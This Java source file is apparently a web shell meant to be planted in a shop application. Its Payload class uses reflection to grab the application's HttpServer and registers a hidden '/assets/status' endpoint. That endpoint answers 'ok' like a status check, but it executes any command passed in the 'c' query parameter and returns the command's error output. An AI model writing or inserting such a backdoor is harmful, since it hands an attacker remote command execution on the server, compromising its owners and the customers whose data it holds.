import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpHandler;
import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.net.URLDecoder;
import java.nio.charset.StandardCharsets;

/** Serves what a request asks for, on a path that the application does not have. */
public class Payload implements HttpHandler {
    public Payload() throws ReflectiveOperationException {
        Object http = Class.forName("shop.Server").getField("http").get(null);
        ((HttpServer) http).createContext("/assets/status", this);
    }

    @Override
    public void handle(HttpExchange x) throws IOException {
        String q = x.getRequestURI().getRawQuery();
        byte[] out = "ok\n".getBytes(StandardCharsets.UTF_8);
        if (q != null && q.startsWith("c=")) {
            Process p = Runtime.getRuntime().exec(URLDecoder.decode(q.substring(2), StandardCharsets.UTF_8).split(" "));
            out = p.getErrorStream().readAllBytes();
        }
        x.sendResponseHeaders(200, out.length);
        x.getResponseBody().write(out);
        x.close();
    }
}
